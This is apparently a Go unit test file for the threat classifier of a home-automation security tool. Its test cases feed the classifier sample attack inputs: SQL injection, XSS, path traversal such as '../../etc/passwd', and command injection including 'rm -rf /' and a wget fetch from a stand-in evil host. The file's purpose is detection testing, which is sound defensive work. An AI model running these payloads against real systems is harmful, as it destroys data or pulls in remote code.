// Haguard - Security Hardening Engine for LLM-Assisted Home Automation
// Copyright 2026 Haguard Contributors
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/haguard/haguard

package threat

import (
	"strings"
	"testing"
)

func containsType(types []Type, want Type) bool {
	for _, t := range types {
		if t == want {
			return true
		}
	}
	return false
}

func TestClassify(t *testing.T) {
	library := NewLibrary(0)

	tests := []struct {
		name  string
		input string
		want  []Type
	}{
		{
			name:  "classic sql injection",
			input: "'; DROP TABLE users; --",
			want:  []Type{TypeSQLInjection},
		},
		{
			name:  "union select",
			input: "1 UNION SELECT password FROM accounts WHERE 1=1",
			want:  []Type{TypeSQLInjection},
		},
		{
			name:  "tautology",
			input: "admin' OR 1=1",
			want:  []Type{TypeSQLInjection},
		},
		{
			name:  "script tag",
			input: `<script>alert("xss")</script>`,
			want:  []Type{TypeXSS},
		},
		{
			name:  "javascript scheme",
			input: "javascript:alert(1)",
			want:  []Type{TypeXSS},
		},
		{
			name:  "event handler",
			input: `<img src=x onerror=alert(1)>`,
			want:  []Type{TypeXSS},
		},
		{
			name:  "relative traversal",
			input: "../../etc/passwd",
			want:  []Type{TypePathTraversal},
		},
		{
			name:  "encoded traversal",
			input: "%2e%2e%2f%2e%2e%2fetc",
			want:  []Type{TypePathTraversal},
		},
		{
			name:  "chained command",
			input: "file.txt; rm -rf /",
			want:  []Type{TypeCommandInjection},
		},
		{
			name:  "command substitution",
			input: "$(wget http://evil.example/payload)",
			want:  []Type{TypeCommandInjection},
		},
		{
			name:  "backticks",
			input: "name`id`",
			want:  []Type{TypeCommandInjection},
		},
		{
			name:  "multiple categories",
			input: `<script>x</script> ; rm -rf /`,
			want:  []Type{TypeXSS, TypeCommandInjection},
		},
		{
			name:  "benign text",
			input: "turn on the living room lights at sunset",
			want:  nil,
		},
		{
			name:  "empty input",
			input: "",
			want:  nil,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := library.Classify(tt.input)

			if len(got) != len(tt.want) {
				t.Fatalf("Classify(%q) = %v, want categories %v", tt.input, got, tt.want)
			}
			for _, want := range tt.want {
				if !containsType(got, want) {
					t.Errorf("Classify(%q) = %v, missing %s", tt.input, got, want)
				}
			}
		})
	}
}

func TestClassifyCaseInsensitive(t *testing.T) {
	library := NewLibrary(0)

	for _, input := range []string{
		"'; drop table users; --",
		"'; DROP TABLE USERS; --",
		"'; DrOp TaBlE users; --",
	} {
		if got := library.Classify(input); !containsType(got, TypeSQLInjection) {
			t.Errorf("Classify(%q) = %v, want sql_injection", input, got)
		}
	}
}

func TestClassifyScanLimit(t *testing.T) {
	// Payload placed beyond the scan limit must not match.
	library := NewLibrary(100)

	padded := strings.Repeat("a", 200) + "'; DROP TABLE users; --"
	if got := library.Classify(padded); got != nil {
		t.Errorf("Classify beyond scan limit = %v, want nil", got)
	}

	// The same payload inside the limit must match.
	if got := library.Classify("'; DROP TABLE users; --"); !containsType(got, TypeSQLInjection) {
		t.Errorf("Classify inside scan limit = %v, want sql_injection", got)
	}
}

func TestMatches(t *testing.T) {
	library := NewLibrary(0)

	if !library.Matches("../../secret", TypePathTraversal) {
		t.Error("Matches traversal input = false, want true")
	}
	if library.Matches("../../secret", TypeSQLInjection) {
		t.Error("Matches traversal input against sql_injection = true, want false")
	}
	if library.Matches("", TypePathTraversal) {
		t.Error("Matches empty input = true, want false")
	}
}

func TestUpdate(t *testing.T) {
	library := NewLibrary(0)

	err := library.Update(map[Type][]string{
		TypeSQLInjection: {`forbidden-word`},
	})
	if err != nil {
		t.Fatalf("Update() error = %v", err)
	}

	if got := library.Classify("forbidden-word"); !containsType(got, TypeSQLInjection) {
		t.Errorf("Classify after update = %v, want sql_injection", got)
	}

	// The old catalogue is fully replaced.
	if got := library.Classify("'; DROP TABLE users; --"); got != nil {
		t.Errorf("Classify old signature after update = %v, want nil", got)
	}

	if categories := library.Categories(); len(categories) != 1 {
		t.Errorf("Categories() = %v, want single category", categories)
	}
}

func TestUpdateInvalidPattern(t *testing.T) {
	library := NewLibrary(0)

	err := library.Update(map[Type][]string{
		TypeXSS: {`([unclosed`},
	})
	if err == nil {
		t.Fatal("Update() with invalid pattern returned nil error")
	}

	// The previous catalogue stays in force after a failed update.
	if got := library.Classify("<script>x</script>"); !containsType(got, TypeXSS) {
		t.Errorf("Classify after failed update = %v, want xss", got)
	}
}

func TestSeverityRank(t *testing.T) {
	if !SeverityCritical.AtLeast(SeverityHigh) {
		t.Error("critical.AtLeast(high) = false, want true")
	}
	if SeverityLow.AtLeast(SeverityMedium) {
		t.Error("low.AtLeast(medium) = true, want false")
	}
	if !SeverityMedium.AtLeast(SeverityMedium) {
		t.Error("medium.AtLeast(medium) = false, want true")
	}
}
